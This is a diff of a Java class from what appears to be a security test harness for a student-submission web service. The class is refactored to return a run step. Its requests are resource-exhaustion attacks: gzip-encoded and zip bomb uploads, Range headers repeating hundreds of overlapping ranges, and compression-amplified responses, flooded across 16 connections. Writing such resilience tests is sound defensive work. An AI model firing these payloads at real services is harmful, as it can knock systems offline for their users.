@@ -12,39 +12,30 @@ import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 
 /// What is small on the wire must not become large in the service, and ranges must not multiply an answer.
-final class Compression implements Attack {
+final class Compression {
     private static final int CONNECTIONS = 16;
     private static final int REQUESTS = 4000;
     private static final int BLOCK = 1 << 20;
     private static final Pattern ASSET = Pattern.compile("\"(/assets/[^\"]+)\"");
-    private List<byte[]> requests = List.of();
 
-    @Override
-    public String summary() {
-        return "gzip bodies and zip uploads that grow a thousandfold, ranges by the hundred, compressed answers";
-    }
+    private Compression() {}
 
-    @Override
-    public void prepare(Attacker attacker) throws IOException, InterruptedException {
+    static Attack.Run prepare(Attacker attacker) throws IOException, InterruptedException {
         String bearer = Request.bearer(attacker.staff().studentToken("attacker"));
         Wire wire = attacker.connect();
         wire.begin(Request.get(SignIn.PATH));
         Matcher found = ASSET.matcher(wire.read().body());
         String asset = found.find() ? found.group(1) : SignIn.PATH;
         byte[] gzip = gzip();
-        requests = List.of(
-                Request.post("/api/v1/submissions", Bodies.JSON, gzip, "Content-Encoding: gzip", bearer),
-                Request.post("/sign-in", Bodies.FORM, gzip, "Content-Encoding: gzip"),
-                Request.post("/api/v1/submissions", Bodies.MULTIPART, Bodies.file("bomb.zip", zip()), bearer),
+        List<byte[]> requests = List.of(
+                Request.post("/api/v1/submissions", Request.JSON, gzip, "Content-Encoding: gzip", bearer),
+                Request.post("/sign-in", Request.FORM, gzip, "Content-Encoding: gzip"),
+                Request.post("/api/v1/submissions", Request.MULTIPART, Request.file("bomb.zip", zip()), bearer),
                 Request.get(asset, "Range: bytes=" + "0-,".repeat(900) + "0-"),
                 Request.get(asset, "Range: bytes=" + ranges()),
                 Request.get("/v3/api-docs", "Accept-Encoding: gzip"),
                 Request.get("/sign-in", "Accept-Encoding: gzip, deflate, br, zstd, *;q=0.1", "TE: gzip"));
-    }
-
-    @Override
-    public void run(Attacker attacker) throws InterruptedException {
-        attacker.flood(CONNECTIONS, REQUESTS, number -> requests.get(number % requests.size()));
+        return attack -> attack.flood(CONNECTIONS, REQUESTS, number -> requests.get(number % requests.size()));
     }
 
     private static String ranges() {
